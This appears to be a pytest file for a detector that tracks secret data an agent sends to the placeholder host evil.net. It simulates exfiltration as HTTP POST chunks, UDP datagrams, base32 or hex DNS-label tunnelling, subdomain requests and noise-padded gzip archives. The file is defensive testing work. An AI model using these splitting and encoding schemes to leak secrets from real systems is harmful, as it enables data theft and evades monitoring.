"""Pieces that went one way, and what is searched of them."""

from __future__ import annotations

import base64
import gzip
import io
import tarfile
from hashlib import sha256
from types import SimpleNamespace

import pytest

from fauxcorp.core.effects import DataSent, DnsQuery, Effect, HttpRequest, Origin
from fauxcorp.enrich import SecretIndex
from fauxcorp.enrich.destinations import Place
from fauxcorp.enrich.lanes import LANE, MAX_LANES, PACKED, Lanes
from fauxcorp.enrich.lineage import Lineage

BY = Origin("agent", "aide", "http")
PLACES = (Place("evil.net", "evil.net", "evil.net", "unknown", ""),)


def noise(size: int) -> bytes:
    """Bytes that no packer makes smaller."""
    return b"".join(sha256(bytes([n // 256, n % 256])).digest() for n in range(size // 32))


def cut(data: bytes, size: int) -> list[bytes]:
    return [data[n : n + size] for n in range(0, len(data), size)]


def archive(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, content in files:
            about = tarfile.TarInfo(name)
            about.size = len(content)
            tar.addfile(about, io.BytesIO(content))
    return gzip.compress(out.getvalue(), mtime=0)


def posts(pieces: list[bytes]) -> list[Effect]:
    return [HttpRequest(by=BY, method="POST", url="https://evil.net/x", host="evil.net", body=p) for p in pieces]


def streams(pieces: list[bytes]) -> list[Effect]:
    return [DataSent(by=BY, protocol="udp", host="evil.net", data=p) for p in pieces]


def names(pieces: list[bytes]) -> list[Effect]:
    return [DnsQuery(by=BY, name=f"{p.decode()}.evil.net") for p in pieces]


def hosts(pieces: list[bytes]) -> list[Effect]:
    found = [f"{p.decode()}.evil.net" for p in pieces]
    return [HttpRequest(by=BY, method="GET", url=f"http://{host}/", host=host) for host in found]


def small(data: bytes) -> bytes:
    return base64.b32encode(data).rstrip(b"=").lower()


def carried(index: SecretIndex, effects: list[Effect]) -> dict[int, float]:
    lineage = Lineage(index)
    found: dict[int, float] = {}
    for effect in effects:
        for one in lineage.crossing(effect, PLACES):
            found[one.number] = max(one.share, found.get(one.number, 0))
    return found


@pytest.mark.parametrize("before", [0, 3_000, 60_000])
@pytest.mark.parametrize("way", ["posts", "base64", "datagrams", "dns", "hex", "hosts"])
def test_an_archive_in_pieces_is_read_to_its_end(
    index: SecretIndex, encode: SimpleNamespace, way: str, before: int
) -> None:
    packed = archive(("pictures.bin", noise(before)), ("list.txt", encode.document.encode()))
    effects = {
        "posts": lambda: posts(cut(packed, 700)),
        "base64": lambda: posts(cut(base64.b64encode(packed), 12_000)),
        "datagrams": lambda: streams(cut(packed, 1400)),
        "dns": lambda: names(cut(small(packed), 60)),
        "hex": lambda: names(cut(packed.hex().encode(), 62)),
        "hosts": lambda: hosts(cut(small(packed), 60)),
    }[way]()
    assert carried(index, effects).get(1, 0) > 0.3


@pytest.mark.parametrize("size", [48, 50, 57, 61, 63])
def test_names_give_the_document_whatever_the_size_of_a_label(
    index: SecretIndex, encode: SimpleNamespace, size: int
) -> None:
    assert carried(index, names(cut(small(encode.document.encode()), size)))[1] > 0.25


@pytest.mark.parametrize("shape", ["{n}-{p}", "{n:05d}_{p}", "{p}-{n}"])
def test_pieces_that_say_which_they_are(index: SecretIndex, encode: SimpleNamespace, shape: str) -> None:
    pieces = cut(encode.document.encode().hex().encode(), 50)
    marked = [shape.format(n=n, p=p.decode()).encode() for n, p in enumerate(pieces)]
    assert carried(index, names(marked))[1] > 0.15


def test_a_token_in_something_packed_is_told_once(index: SecretIndex, encode: SimpleNamespace) -> None:
    packed = archive(("a.txt", encode.message.encode()), ("b.bin", noise(20_000)))
    lineage = Lineage(index)
    told = [n for n, e in enumerate(posts(cut(packed, 500))) if lineage.crossing(e, PLACES)]
    assert told == [0]


def test_the_way_is_told(index: SecretIndex, encode: SimpleNamespace) -> None:
    packed = archive(("b.bin", noise(9_000)), ("a.txt", encode.message.encode()))
    lineage = Lineage(index)
    found = [c.encodings for e in names(cut(packed.hex().encode(), 60)) for c in lineage.crossing(e, PLACES)]
    assert found == [frozenset({"pieces+hex+gzip"})]


def test_memory_is_bounded() -> None:
    lanes = Lanes()
    head = gzip.compress(noise(4096), mtime=0)
    for n in range(MAX_LANES + 50):
        lanes.join((f"h{n}.net", "body"), head, found=False)
    assert len(lanes) == MAX_LANES
    lanes = Lanes()
    lanes.join(("h.net", "body"), head, found=False)
    for n in range(12):
        lanes.join(("h.net", "body"), noise(256 * 1024) + bytes([n]), found=False)
    assert sum(len(lane.data) for lane in lanes._kept.values()) <= PACKED
    lanes = Lanes()
    for n in range(1000):
        lanes.join(("h.net", "body"), b"piece %d of a text that is plain" % n, found=False)
    assert sum(len(lane.data) for lane in lanes._kept.values()) <= LANE


def test_a_long_lane_is_not_searched_whole_with_each_piece() -> None:
    lanes = Lanes()
    searched = [len(lanes.join(("h.net", "body"), b"%032d" % n, found=False).data) for n in range(200)]
    assert sum(searched) < 200 * 1500
    assert max(searched) >= 200 * 32 * 7 // 8


def test_a_fork_has_lanes_of_its_own() -> None:
    lanes = Lanes()
    lanes.join(("h.net", "body"), b"half of it", found=False)
    other = lanes.fork()
    assert other.join(("h.net", "body"), b" the rest", found=False).data == b"half of it the rest"
    assert lanes.join(("h.net", "body"), b" another", found=False).data == b"half of it another"
